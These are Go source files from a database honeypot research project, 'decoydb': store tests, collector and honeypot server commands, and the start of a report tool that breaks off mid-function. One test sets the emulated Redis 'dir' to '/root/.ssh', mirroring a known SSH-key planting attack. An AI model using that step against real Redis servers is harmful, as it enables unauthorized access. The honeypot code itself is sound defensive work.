func TestRoundTripQuick(t *testing.T) {
	r := rand.New(rand.NewSource(7))
	f := func() bool {
		want := genValue(r, 3)
		got, err := ReadValue(bufio.NewReader(bytes.NewReader(Encode(nil, want))))
		return err == nil && reflect.DeepEqual(got, want)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

func TestStoreBasics(t *testing.T) {
	s := NewStore()
	s.Set("a", "1")
	s.Set("b", "2")
	s.SetHash("h", map[string]string{"f": "v"})
	if v, ok := s.Get("a"); !ok || v != "1" {
		t.Fatalf("Get(a) = %q, %v", v, ok)
	}
	if got := s.Type("h"); got != "hash" {
		t.Fatalf("Type(h) = %q", got)
	}
	if got := s.Type("missing"); got != "none" {
		t.Fatalf("Type(missing) = %q", got)
	}
	if got := s.Keys("*"); !reflect.DeepEqual(got, []string{"a", "b", "h"}) {
		t.Fatalf("Keys(*) = %v", got)
	}
	if got := s.Keys("a*"); !reflect.DeepEqual(got, []string{"a"}) {
		t.Fatalf("Keys(a*) = %v", got)
	}
	if n := s.Del("a", "zz"); n != 1 {
		t.Fatalf("Del = %d", n)
	}
	if n := s.Exists("b", "h", "a"); n != 2 {
		t.Fatalf("Exists = %d", n)
	}
	s.Flush()
	if s.Len() != 0 {
		t.Fatalf("Len after Flush = %d", s.Len())
	}
}

func TestStoreConfig(t *testing.T) {
	s := NewStore()
	if v, ok := s.ConfigGet("dir"); !ok || v != "/var/lib/redis" {
		t.Fatalf("ConfigGet(dir) = %q, %v", v, ok)
	}
	s.ConfigSet("DIR", "/root/.ssh")
	if v, _ := s.ConfigGet("dir"); v != "/root/.ssh" {
		t.Fatalf("ConfigGet after set = %q", v)
	}
}

func TestGlobMatch(t *testing.T) {
	cases := []struct {
		pat, s string
		want   bool
	}{
		{"*", "anything", true},
		{"", "anything", true},
		{"user:*", "user:17", true},
		{"user:*", "account:17", false},
		{"*.rdb", "dump.rdb", true},
		{"exact", "exact", true},
		{"exact", "exactX", false},
	}
	for _, c := range cases {
		if got := globMatch(c.pat, c.s); got != c.want {
			t.Errorf("globMatch(%q, %q) = %v, want %v", c.pat, c.s, got, c.want)
		}
	}
}
