// Command dbcollect is the central collector for a fleet of honeypot
// farms: it listens for relay connections from decoydb/dbsim -forward,
// authenticates them with a shared token, and ingests every forwarded
// event into a sharded in-memory event store — the aggregation half of
// the paper's pipeline, run on the analysis host instead of on each
// exposed VM.
//
// On SIGINT/SIGTERM (or after -runfor) it stops serving and dumps a
// dbreport-style snapshot — event totals, unique sources and top
// credentials per farm-facing window — so a collection session ends
// with the same artefact format the offline report tool produces.
//
// Usage:
//
//	dbcollect -token SECRET [-listen :7100] [-days 20] [-runfor 0] [-statsevery 1m]
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"os"
	"os/signal"
	"syscall"
	"time"

	"decoydb/internal/bus"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
	"decoydb/internal/geoip"
	"decoydb/internal/relay"
	"decoydb/internal/report"
)

func main() {
	log.SetFlags(log.LstdFlags)
	log.SetPrefix("dbcollect: ")
	var (
		listen    = flag.String("listen", "127.0.0.1:7100", "address to accept relay connections on")
		token     = flag.String("token", "", "shared secret forwarders must present (required)")
		days      = flag.Int("days", core.ExperimentDays, "capture window length in days for the event store")
		runFor    = flag.Duration("runfor", 0, "stop after this long (0 = until signal)")
		statsEach = flag.Duration("statsevery", time.Minute, "interval between stats log lines (0 = off)")
		topCreds  = flag.Int("topcreds", 10, "credential rows in the final snapshot dump")
	)
	flag.Parse()
	if *token == "" {
		log.Fatal("-token is required: forwarders authenticate with it")
	}

	// The store shares the bus's sharding so concurrent farm connections
	// ingest without a global lock; a StatsSink rides along for the
	// periodic log line.
	store := evstore.NewSharded(core.ExperimentStart, *days, geoip.Default(), 0)
	stats := &bus.StatsSink{}
	coll, err := relay.NewCollector(relay.CollectorOptions{
		Token: *token, Logf: log.Printf,
	}, store, stats)
	if err != nil {
		log.Fatal(err)
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	if *runFor > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, *runFor)
		defer cancel()
	}

	done := make(chan error, 1)
	go func() { done <- coll.ListenAndServe(*listen) }()
	log.Printf("collecting on %s — ctrl-c to stop and dump", *listen)

	if *statsEach > 0 {
		go func() {
			t := time.NewTicker(*statsEach)
			defer t.Stop()
			for {
				select {
				case <-ctx.Done():
					return
				case <-t.C:
					log.Printf("%s", coll.Stats())
					log.Printf("%s", stats.Counts())
				}
			}
		}()
	}

	<-ctx.Done()
	log.Print("shutting down")
	if err := coll.Close(); err != nil {
		log.Printf("collector: %v", err)
	}
	if err := <-done; err != nil {
		log.Fatal(err)
	}
	log.Printf("final %s", coll.Stats())

	dump(os.Stdout, coll.Stats(), store, *topCreds)
}

// dump renders the end-of-session snapshot in the dbreport artefact
// format: "=== title — subtitle ===" headers over aligned tables.
func dump(w *os.File, cst relay.CollectorStats, store *evstore.Store, topCreds int) {
	farms := &report.Table{
		Title:  "Farms",
		Header: []string{"farm", "last seq", "frames", "events", "dup frames", "dup events"},
	}
	for _, f := range cst.Farms {
		farms.AddRow(f.Name, f.LastSeq, f.Frames, f.Events, f.DupFrames, f.DupEvents)
	}
	farms.Note = fmt.Sprintf("transport: %d conns, %d auth failures, %.2fx compression",
		cst.Conns, cst.AuthFailures, cst.CompressionRatio())

	totals := &report.Table{
		Title:  "Capture",
		Header: []string{"metric", "value"},
	}
	totals.AddRow("events ingested", store.Events())
	totals.AddRow("unique sources", store.UniqueIPs(evstore.Query{}))
	totals.AddRow("total logins", store.Logins(evstore.Query{}))

	creds := &report.Table{
		Title:  "Top credentials",
		Header: []string{"dbms", "user", "pass", "count"},
	}
	for i, c := range store.Creds(evstore.Query{}) {
		if i >= topCreds {
			break
		}
		creds.AddRow(c.DBMS, c.User, c.Pass, c.Count)
	}

	for _, t := range []*report.Table{farms, totals, creds} {
		fmt.Fprintf(w, "=== Collector — %s ===\n%s\n", t.Title, t)
	}
}
