// Command dbcollect is the central collector for a fleet of honeypot
// farms: it listens for relay connections from decoydb/dbsim -forward,
// authenticates them with a shared token, and ingests every forwarded
// event into a sharded event store — the aggregation half of the
// paper's pipeline, run on the analysis host instead of on each
// exposed VM.
//
// With -store DIR the store is journaled to a write-ahead log under
// DIR/collector: every ingested batch hits disk before it is
// acknowledged into the aggregates, and restarting dbcollect over the
// same -store recovers the full capture — including the per-farm dedup
// marks, so farms retransmitting across the restart are never double
// counted.
//
// On SIGINT/SIGTERM (or after -runfor, or if the listener dies) it
// stops serving, flushes every buffering sink, and dumps a
// dbreport-style snapshot — event totals, unique sources and top
// credentials — so a collection session always ends with the same
// artefact format the offline report tool produces, even on an error
// path.
//
// In a multi-collector tier (farms spread by rendezvous hashing over
// several dbcollect processes), -peers lists the other collectors'
// admin addresses: /query on this collector then merges every peer's
// results, so dbreport -live pointed anywhere in the tier sees one
// logical capture.
//
// Usage:
//
//	dbcollect -token SECRET [-listen :7100] [-store DIR] [-days 20] [-runfor 0] [-statsevery 1m]
//	dbcollect -token SECRET -admin :9200 -peers host2:9200,host3:9200
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"decoydb/internal/bus"
	"decoydb/internal/cliflags"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
	"decoydb/internal/geoip"
	"decoydb/internal/obs"
	"decoydb/internal/relay"
	"decoydb/internal/report"
)

func main() {
	log.SetFlags(log.LstdFlags)
	log.SetPrefix("dbcollect: ")
	var (
		listen    = flag.String("listen", "127.0.0.1:7100", "address to accept relay connections on")
		token     = flag.String("token", "", "shared secret forwarders must present (required)")
		days      = flag.Int("days", core.ExperimentDays, "capture window length in days for the event store")
		runFor    = flag.Duration("runfor", 0, "stop after this long (0 = until signal)")
		statsEach = flag.Duration("statsevery", time.Minute, "interval between stats log lines (0 = off)")
		topCreds  = flag.Int("topcreds", 10, "credential rows in the final snapshot dump")
		retain    = flag.Duration("retain", 0, "journal retention: expire -store segments older than this, and compact acknowledged batches after the final snapshot dump (0 = keep everything)")
	)
	storeFlag := cliflags.RegisterStore(flag.CommandLine)
	adminFlag := cliflags.RegisterAdmin(flag.CommandLine)
	peersFlag := cliflags.RegisterPeers(flag.CommandLine)
	streamFlag := cliflags.RegisterStream(flag.CommandLine)
	flag.Parse()
	if *token == "" {
		log.Fatal("-token is required: forwarders authenticate with it")
	}
	if peersFlag.Enabled() && !adminFlag.Enabled() {
		log.Fatal("-peers requires -admin: the merged /query is served on the admin plane")
	}

	// The store shares the bus's sharding so concurrent farm connections
	// ingest without a global lock; a StatsSink rides along for the
	// periodic log line.
	store := evstore.NewSharded(core.ExperimentStart, *days, geoip.Default(), 0)
	stats := &bus.StatsSink{}

	// With -store, attach the journal before serving: replay rebuilds
	// both the aggregates of the previous process and — from the source
	// tags journaled with each relayed batch — the per-farm dedup marks,
	// so retransmits that cross the restart are recognised as duplicates.
	journal, err := storeFlag.Open("collector", log.Printf)
	if err != nil {
		log.Fatal(err)
	}
	farms := map[string]relay.FarmMark{}
	if journal != nil {
		replayed, err := store.AttachWAL(journal, func(tag []byte) {
			if farm, epoch, seq, ok := relay.DecodeSourceTag(tag); ok {
				farms[farm] = relay.FarmMark{Epoch: epoch, LastSeq: seq}
			}
		})
		if err != nil {
			log.Fatal(err)
		}
		if replayed > 0 {
			log.Printf("recovered %d events from %s (%d farm marks)", replayed, storeFlag.Dir(), len(farms))
		}
		log.Printf("%s", journal.Stats())
	}

	// With -stream, the online analyzer consumes the aggregated tier-wide
	// feed — the natural place to watch for escalations across every
	// farm at once. With -admin, a trace ring joins the collector's sinks
	// (spans per relayed session) and the admin plane serves the live
	// store over /query next to /metrics and /statusz.
	analyzer := streamFlag.Analyzer()
	var traces *obs.TraceRing
	collSinks := []core.Sink{store, stats}
	if analyzer != nil {
		collSinks = append(collSinks, analyzer)
	}
	if adminFlag.Enabled() {
		traces = obs.NewTraceRing(obs.TraceOptions{Verdicts: cliflags.TraceVerdicts(analyzer)})
		collSinks = append(collSinks, traces)
	}
	coll, err := relay.NewCollector(relay.CollectorOptions{
		Token: *token, Farms: farms, Logf: log.Printf,
	}, collSinks...)
	if err != nil {
		log.Fatal(err)
	}
	if adminFlag.Enabled() {
		reg := obs.NewRegistry()
		reg.Register(obs.CollectorSource(coll))
		reg.Register(obs.KindSource(stats))
		reg.Register(obs.StoreSource(store))
		if journal != nil {
			reg.Register(obs.WALSource("collector", journal))
		}
		// With -peers, the tier fan-in takes the query handler's place:
		// /query merges this store with every peer's, so any collector
		// in the tier answers for the whole capture.
		qh := obs.NewQueryHandler(obs.QueryOptions{Store: store})
		var query http.Handler = qh
		if peersFlag.Enabled() {
			fi := obs.NewFanIn(obs.FanInOptions{Local: qh, Peers: peersFlag.List(), Logf: log.Printf})
			reg.Register(fi)
			query = fi
			log.Printf("tier fan-in over %d peers: %v", len(peersFlag.List()), peersFlag.List())
		}
		admin, err := adminFlag.Start(obs.ServerOptions{
			Registry: reg,
			Traces:   traces,
			Stream:   analyzer,
			Query:    query,
			Logf:     log.Printf,
		})
		if err != nil {
			log.Fatal(err)
		}
		defer admin.Close()
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	if *runFor > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, *runFor)
		defer cancel()
	}

	done := make(chan error, 1)
	go func() { done <- coll.ListenAndServe(*listen) }()
	log.Printf("collecting on %s — SIGINT/SIGTERM to stop and dump", *listen)

	if *statsEach > 0 {
		go func() {
			t := time.NewTicker(*statsEach)
			defer t.Stop()
			for {
				select {
				case <-ctx.Done():
					return
				case <-t.C:
					log.Printf("%s", coll.Stats())
					log.Printf("%s", stats.Counts())
					if journal != nil {
						log.Printf("%s", journal.Stats())
					}
				}
			}
		}()
	}

	// Age-based journal retention: segments older than -retain expire on
	// a timer, bounding the disk a long-running collector consumes. The
	// expired batches leave the replay window (the aggregates they built
	// live on in the store until the process ends), which is the explicit
	// trade the flag opts into.
	if *retain > 0 && journal != nil {
		interval := *retain / 4
		if interval < time.Second {
			interval = time.Second
		}
		if interval > time.Hour {
			interval = time.Hour
		}
		go func() {
			t := time.NewTicker(interval)
			defer t.Stop()
			for {
				select {
				case <-ctx.Done():
					return
				case <-t.C:
					removed, err := journal.CompactBefore(time.Now().Add(-*retain))
					if err != nil {
						log.Printf("retention: %v", err)
					} else if removed > 0 {
						log.Printf("retention: expired %d segments — %s", removed, journal.Stats())
					}
				}
			}
		}()
	}

	// Wait for a stop signal or a listener failure. Either way the
	// session ends the same: flush every buffering sink, dump the
	// snapshot, close the journal — a capture must never evaporate just
	// because the exit path was the unhappy one.
	var serveErr error
	select {
	case serveErr = <-done:
		if serveErr != nil {
			log.Printf("serve: %v — dumping what was captured", serveErr)
		}
	case <-ctx.Done():
		log.Print("shutting down")
	}
	if err := coll.Close(); err != nil {
		log.Printf("collector: %v", err)
	}
	if serveErr == nil {
		if err := <-done; err != nil {
			serveErr = err
			log.Printf("serve: %v", err)
		}
	}

	// Quiesce point: every sink that buffers (the journaled store syncs
	// its WAL here) drains before the snapshot is rendered.
	for _, s := range []core.Sink{store, stats} {
		if f, ok := s.(core.Flusher); ok {
			f.Flush()
		}
	}
	log.Printf("final %s", coll.Stats())
	dump(os.Stdout, coll.Stats(), store, *topCreds)
	if journal != nil {
		// The snapshot dump above is the session's durable artefact; with
		// -retain the journal batches it covers are now compactable, so a
		// restart does not re-replay a capture that was already reported.
		if *retain > 0 {
			if removed, err := journal.Compact(journal.LastSeq()); err != nil {
				log.Printf("compact after dump: %v", err)
			} else {
				log.Printf("compact after dump: %d segments removed", removed)
			}
		}
		log.Printf("final %s", journal.Stats())
		if err := journal.Close(); err != nil {
			log.Printf("journal: %v", err)
		}
	}
	if serveErr != nil {
		os.Exit(1)
	}
}

// dump renders the end-of-session snapshot in the dbreport artefact
// format: "=== title — subtitle ===" headers over aligned tables.
func dump(w *os.File, cst relay.CollectorStats, store *evstore.Store, topCreds int) {
	farms := &report.Table{
		Title:  "Farms",
		Header: []string{"farm", "last seq", "frames", "events", "dup frames", "dup events"},
	}
	for _, f := range cst.Farms {
		farms.AddRow(f.Name, f.LastSeq, f.Frames, f.Events, f.DupFrames, f.DupEvents)
	}
	farms.Note = fmt.Sprintf("transport: %d conns, %d auth failures, %.2fx compression",
		cst.Conns, cst.AuthFailures, cst.CompressionRatio())

	totals := &report.Table{
		Title:  "Capture",
		Header: []string{"metric", "value"},
	}
	totals.AddRow("events ingested", store.Events())
	totals.AddRow("unique sources", store.UniqueIPs(evstore.Query{}))
	totals.AddRow("total logins", store.Logins(evstore.Query{}))

	creds := &report.Table{
		Title:  "Top credentials",
		Header: []string{"dbms", "user", "pass", "count"},
	}
	for i, c := range store.Creds(evstore.Query{}) {
		if i >= topCreds {
			break
		}
		creds.AddRow(c.DBMS, c.User, c.Pass, c.Count)
	}

	for _, t := range []*report.Table{farms, totals, creds} {
		fmt.Fprintf(w, "=== Collector — %s ===\n%s\n", t.Title, t)
	}
}
