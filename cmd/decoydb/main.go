// Command decoydb serves real database honeypots on live TCP ports — the
// deployable half of the system. Each enabled protocol gets a listener;
// every connection is logged in the pipeline's JSON format, ready for
// dbreport-style analysis.
//
// Events flow from sessions through the sharded async event bus
// (internal/bus) into the log writer and a stats sink, so a flood on one
// listener cannot stall the others: backpressure policy is configurable
// (-bus-policy block|drop|adaptive) and transport counters are logged
// periodically (-statsevery).
//
// With -forward "addrs=a:7100|b:7100,token=SECRET" (legacy
// host:port,token[,farm] still accepted) the farm also streams every
// event to a dbcollect collector tier over the relay protocol: batched,
// compressed, acknowledged, spooled across collector outages, and shed
// with per-source accounting when the spool fills — a collector outage
// costs bounded memory, never a stalled honeypot session. With several
// collector addresses the farm picks one by rendezvous hash of its farm
// name and fails over down the ranking when it dies.
//
// With -store DIR the farm becomes durable: every event is journaled to
// a write-ahead log under DIR/journal before the process acknowledges
// it, and the relay spool is backed by DIR/spool — killing the process
// (even SIGKILL) and restarting it resumes retransmission from disk,
// and the collector's cross-restart dedup keeps replays from ever being
// double counted.
//
// Usage:
//
//	decoydb [-listen 0.0.0.0] [-services mysql,redis,...] [-logs DIR] [-offset N] [-forward SPEC] [-store DIR]
//
// With -offset (e.g. 10000), services bind to port+offset so the farm can
// run unprivileged: MySQL on 13306, Redis on 16379, and so on.
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"os"
	"os/signal"
	"strings"
	"syscall"
	"time"

	"decoydb/internal/bus"
	"decoydb/internal/cliflags"
	"decoydb/internal/core"
	"decoydb/internal/obs"
	"decoydb/internal/pipeline"
	"decoydb/internal/relay"
	"decoydb/internal/simnet"
	"decoydb/internal/wal"
)

func main() {
	log.SetFlags(log.LstdFlags)
	log.SetPrefix("decoydb: ")
	var (
		listen    = flag.String("listen", "127.0.0.1", "address to bind")
		services  = flag.String("services", "mysql,mssql,postgres,redis,elastic,mongodb", "comma-separated honeypot services (also: mariadb, couchdb)")
		dir       = flag.String("logs", "decoydb-logs", "directory for honeypot log files")
		offset    = flag.Int("offset", 10000, "port offset added to each service's default port (0 = real ports, needs privileges)")
		fake      = flag.Bool("fakedata", true, "seed medium/high honeypots with bait data")
		seed      = flag.Int64("seed", 42, "seed for bait data generation")
		statsEach = flag.Duration("statsevery", time.Minute, "interval between transport stats log lines (0 = off)")
	)
	// A live farm sheds load rather than letting a hostile flood stall
	// every honeypot behind a slow disk; adaptive shedding caps the
	// flooding source while keeping everyone else lossless.
	busFlags := cliflags.RegisterBus(flag.CommandLine, "adaptive")
	fwdFlag := cliflags.RegisterForward(flag.CommandLine)
	storeFlag := cliflags.RegisterStore(flag.CommandLine)
	adminFlag := cliflags.RegisterAdmin(flag.CommandLine)
	streamFlag := cliflags.RegisterStream(flag.CommandLine)
	flag.Parse()

	busOpts, err := busFlags.Options()
	if err != nil {
		log.Fatal(err)
	}

	enabled := map[string]bool{}
	for _, s := range strings.Split(*services, ",") {
		enabled[strings.TrimSpace(s)] = true
	}

	lw, err := pipeline.NewLogWriter(*dir)
	if err != nil {
		log.Fatal(err)
	}

	stats := &bus.StatsSink{}
	sinks := []core.Sink{lw, stats}

	// With -store, the capture journal rides the bus like any other sink
	// and the relay spool journals frames before they enter its
	// retransmission window — so a crashed farm resumes from disk.
	journal, err := storeFlag.Open("journal", log.Printf)
	if err != nil {
		log.Fatal(err)
	}
	if journal != nil {
		sinks = append(sinks, wal.NewSink(journal))
	}
	var spool *wal.Log
	if fwdFlag.Enabled() {
		if spool, err = storeFlag.Open("spool", log.Printf); err != nil {
			log.Fatal(err)
		}
	}

	// Live forwarding must never stall sessions: leave Block unset so a
	// collector outage degrades to bounded spooling, then accounted
	// shedding. SpoolWAL is an interface: assign only when the concrete
	// log exists, or a nil *wal.Log would read as a present (broken) log.
	fwdBase := relay.ForwardOptions{Farm: "live", Logf: log.Printf}
	if spool != nil {
		fwdBase.SpoolWAL = spool
	}
	fwd, err := fwdFlag.Sink(fwdBase)
	if err != nil {
		log.Fatal(err)
	}
	if fwd != nil {
		sinks = append(sinks, fwd)
		// SIGHUP re-reads -forward-file and re-ranks the collector tier
		// live; with plain -forward the reload re-parses the same spec
		// (a deliberate no-op) so the handler is always safe to arm.
		defer fwdFlag.WatchSIGHUP(fwd, fwdBase, log.Printf)()
	}
	// The streaming analyzer and the trace ring ride the bus like any
	// other sink, so live classification and span updates cost honeypot
	// sessions nothing beyond the existing batch delivery.
	analyzer := streamFlag.Analyzer()
	if analyzer != nil {
		sinks = append(sinks, analyzer)
	}
	var traces *obs.TraceRing
	if adminFlag.Enabled() {
		traces = obs.NewTraceRing(obs.TraceOptions{Verdicts: cliflags.TraceVerdicts(analyzer)})
		sinks = append(sinks, traces)
	}
	evbus := bus.New(busOpts, sinks...)

	// The admin plane scrapes each subsystem's Stats() on demand: no
	// hot-path cost, everything visible.
	if adminFlag.Enabled() {
		reg := obs.NewRegistry()
		reg.Register(obs.BusSource(evbus))
		reg.Register(obs.KindSource(stats))
		if journal != nil {
			reg.Register(obs.WALSource("journal", journal))
		}
		if spool != nil {
			reg.Register(obs.WALSource("spool", spool))
		}
		if fwd != nil {
			reg.Register(obs.ForwardSource(fwd))
		}
		srvOpts := obs.ServerOptions{Registry: reg, Traces: traces, Stream: analyzer, Logf: log.Printf}
		if fwd != nil {
			srvOpts.ReloadForward = fwd.SetEndpoints
		}
		admin, err := adminFlag.Start(srvOpts)
		if err != nil {
			log.Fatal(err)
		}
		defer admin.Close()
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	farm := core.NewFarm(core.RealClock{}, evbus, core.FarmOptions{})

	// One live instance per enabled service, using the same handler
	// constructors as the full deployment.
	deploy := &core.Deployment{}
	for _, dbms := range []string{core.MySQL, core.MSSQL, core.Postgres, core.Redis, core.Elastic, core.MongoDB, core.MariaDB, core.CouchDB} {
		if !enabled[dbms] {
			continue
		}
		info := core.Info{
			DBMS: dbms, Port: core.DefaultPort(dbms) + *offset,
			Config: core.ConfigDefault, Group: core.GroupSingle, VM: "live",
		}
		switch dbms {
		case core.Elastic, core.Redis, core.CouchDB:
			info.Level = core.Medium
		case core.MongoDB:
			info.Level = core.High
		default:
			info.Level = core.Low
		}
		if *fake && (dbms == core.Redis || dbms == core.MongoDB || dbms == core.CouchDB) {
			info.Config = core.ConfigFakeData
		}
		deploy.Instances = append(deploy.Instances, info)
	}
	handlers := simnet.BuildHoneypots(deploy, *seed)

	for _, info := range deploy.Instances {
		hp := &core.Honeypot{Info: info, Handler: handlers[info.ID()]}
		addr, err := farm.Listen(ctx, fmt.Sprintf("%s:%d", *listen, info.Port), hp)
		if err != nil {
			log.Fatal(err)
		}
		log.Printf("%s honeypot (%s interaction) listening on %s", info.DBMS, info.Level, addr)
	}
	log.Printf("logging to %s via %d-shard bus (%s policy) — ctrl-c to stop", *dir, evbus.Stats().Shards, busOpts.Policy)
	if fwd != nil {
		log.Printf("forwarding events to collector (farm %q)", fwd.Stats().Farm)
	}
	if journal != nil {
		log.Printf("durable capture under %s — %s", storeFlag.Dir(), journal.Stats())
	}

	if *statsEach > 0 {
		go func() {
			t := time.NewTicker(*statsEach)
			defer t.Stop()
			for {
				select {
				case <-ctx.Done():
					return
				case <-t.C:
					log.Printf("%s", evbus.Stats())
					log.Printf("%s", stats.Counts())
					if fwd != nil {
						log.Printf("%s", fwd.Stats())
					}
				}
			}
		}()
	}

	<-ctx.Done()
	log.Print("shutting down")
	farm.Shutdown() // waits for sessions, then flushes the bus
	if err := evbus.Close(); err != nil {
		log.Printf("event transport: %v", err)
	}
	log.Printf("final %s", evbus.Stats())
	log.Printf("final %s", stats.Counts())
	if fwd != nil {
		// Give spooled frames one last chance to reach the collector,
		// then report exactly what made it and what did not.
		fwd.Flush()
		if err := fwd.Close(); err != nil {
			log.Printf("relay: %v", err)
		}
		log.Printf("final %s", fwd.Stats())
	}
	// The forwarder journals its unframed tail during Close, so the spool
	// WAL must outlive it; same order on the capture journal, which the
	// bus flushed above.
	if spool != nil {
		log.Printf("final spool %s", spool.Stats())
		if err := spool.Close(); err != nil {
			log.Printf("spool: %v", err)
		}
	}
	if journal != nil {
		log.Printf("final journal %s", journal.Stats())
		if err := journal.Close(); err != nil {
			log.Printf("journal: %v", err)
		}
	}
	if err := lw.Close(); err != nil {
		log.Printf("log writer: %v (%d write failures)", err, lw.ErrCount())
	}
}
