// Command decoydb serves real database honeypots on live TCP ports — the
// deployable half of the system. Each enabled protocol gets a listener;
// every connection is logged in the pipeline's JSON format, ready for
// dbreport-style analysis.
//
// Usage:
//
//	decoydb [-listen 0.0.0.0] [-services mysql,redis,...] [-logs DIR] [-offset N]
//
// With -offset (e.g. 10000), services bind to port+offset so the farm can
// run unprivileged: MySQL on 13306, Redis on 16379, and so on.
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"os"
	"os/signal"
	"strings"
	"syscall"

	"decoydb/internal/core"
	"decoydb/internal/pipeline"
	"decoydb/internal/simnet"
)

func main() {
	log.SetFlags(log.LstdFlags)
	log.SetPrefix("decoydb: ")
	var (
		listen   = flag.String("listen", "127.0.0.1", "address to bind")
		services = flag.String("services", "mysql,mssql,postgres,redis,elastic,mongodb", "comma-separated honeypot services (also: mariadb, couchdb)")
		dir      = flag.String("logs", "decoydb-logs", "directory for honeypot log files")
		offset   = flag.Int("offset", 10000, "port offset added to each service's default port (0 = real ports, needs privileges)")
		fake     = flag.Bool("fakedata", true, "seed medium/high honeypots with bait data")
		seed     = flag.Int64("seed", 42, "seed for bait data generation")
	)
	flag.Parse()

	enabled := map[string]bool{}
	for _, s := range strings.Split(*services, ",") {
		enabled[strings.TrimSpace(s)] = true
	}

	lw, err := pipeline.NewLogWriter(*dir)
	if err != nil {
		log.Fatal(err)
	}
	defer lw.Close()

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	farm := core.NewFarm(core.RealClock{}, lw, core.FarmOptions{})
	defer farm.Shutdown()

	// One live instance per enabled service, using the same handler
	// constructors as the full deployment.
	deploy := &core.Deployment{}
	for _, dbms := range []string{core.MySQL, core.MSSQL, core.Postgres, core.Redis, core.Elastic, core.MongoDB, core.MariaDB, core.CouchDB} {
		if !enabled[dbms] {
			continue
		}
		info := core.Info{
			DBMS: dbms, Port: core.DefaultPort(dbms) + *offset,
			Config: core.ConfigDefault, Group: core.GroupSingle, VM: "live",
		}
		switch dbms {
		case core.Elastic, core.Redis, core.CouchDB:
			info.Level = core.Medium
		case core.MongoDB:
			info.Level = core.High
		default:
			info.Level = core.Low
		}
		if *fake && (dbms == core.Redis || dbms == core.MongoDB || dbms == core.CouchDB) {
			info.Config = core.ConfigFakeData
		}
		deploy.Instances = append(deploy.Instances, info)
	}
	handlers := simnet.BuildHoneypots(deploy, *seed)

	for _, info := range deploy.Instances {
		hp := &core.Honeypot{Info: info, Handler: handlers[info.ID()]}
		addr, err := farm.Listen(ctx, fmt.Sprintf("%s:%d", *listen, info.Port), hp)
		if err != nil {
			log.Fatal(err)
		}
		log.Printf("%s honeypot (%s interaction) listening on %s", info.DBMS, info.Level, addr)
	}
	log.Printf("logging to %s — ctrl-c to stop", *dir)
	<-ctx.Done()
	log.Print("shutting down")
}
