// Command dbreport regenerates every table and figure from the paper's
// evaluation: it runs the simulated 20-day deployment, feeds the captured
// traffic through the enrichment/classification/clustering pipeline, and
// prints each artefact alongside the paper's reported values.
//
// With -store DIR it skips the simulation entirely and reports on a real
// capture instead: the write-ahead log a decoydb farm (DIR/journal) or a
// dbcollect collector (DIR/collector) left behind is replayed into an
// event store, and the capture summary — including how much of a torn
// tail recovery had to discard — is printed. This closes the durability
// loop: run decoydb -store, kill it however rudely, and dbreport shows
// exactly what survived.
//
// Usage:
//
//	dbreport [-seed N] [-scale N] [-only T5,T8] [-o report.txt]
//	dbreport -store DIR [-o report.txt]
package main

import (
	"context"
	"flag"
	"fmt"
	"io"
	"log"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"time"

	"decoydb/internal/cliflags"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
	"decoydb/internal/experiments"
	"decoydb/internal/geoip"
	"decoydb/internal/relay"
	"decoydb/internal/report"
	"decoydb/internal/simnet"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("dbreport: ")
	var (
		seed  = flag.Int64("seed", 1, "simulation seed")
		scale = flag.Int("scale", simnet.DefaultScale, "brute-force volume divisor (1 = paper volume)")
		only  = flag.String("only", "", "comma-separated experiment IDs (default: all)")
		out   = flag.String("o", "", "write the report to a file as well as stdout")
	)
	storeFlag := cliflags.RegisterStore(flag.CommandLine)
	flag.Parse()

	var w io.Writer = os.Stdout
	if *out != "" {
		f, err := os.Create(*out)
		if err != nil {
			log.Fatal(err)
		}
		defer f.Close()
		w = io.MultiWriter(os.Stdout, f)
	}

	if storeFlag.Enabled() {
		if err := reportStore(w, storeFlag); err != nil {
			log.Fatal(err)
		}
		return
	}

	began := time.Now()
	fmt.Fprintf(w, "decoydb experiment report (seed=%d scale=1/%d)\n", *seed, *scale)
	fmt.Fprintf(w, "reproducing: Decoy Databases — Analyzing Attacks on Public Facing Databases (IMC '25)\n\n")

	ds, err := experiments.Build(context.Background(), *seed, *scale)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Fprintf(w, "dataset built in %v: %d events from %d sources\n",
		time.Since(began).Round(time.Millisecond), ds.Snap.Events(), len(ds.Recs))
	if ds.InstApplied == 0 && len(ds.Pop.Institutional) > 0 {
		fmt.Fprintf(w, "warning: institutional scanner list (%d addresses) does not overlap the capture — Section 6.1 shares will be zero\n",
			len(ds.Pop.Institutional))
	}
	fmt.Fprintf(w, "transport: %s\n\n", ds.Bus)

	selected := map[string]bool{}
	for _, id := range strings.Split(*only, ",") {
		if id = strings.TrimSpace(id); id != "" {
			selected[id] = true
		}
	}
	for _, e := range experiments.All {
		if len(selected) > 0 && !selected[e.ID] {
			continue
		}
		art := e.Run(ds)
		fmt.Fprintf(w, "=== %s — %s ===\n%s\n", art.ID, art.Title, art.Body)
	}
	fmt.Fprintf(w, "total runtime: %v\n", time.Since(began).Round(time.Millisecond))
}

// reportStore replays a -store directory's write-ahead log into a fresh
// event store and prints what the capture holds. It prefers the farm
// journal (decoydb writes DIR/journal) and falls back to a collector's
// journal (dbcollect writes DIR/collector).
func reportStore(w io.Writer, storeFlag *cliflags.Store) error {
	subdir := ""
	for _, cand := range []string{"journal", "collector"} {
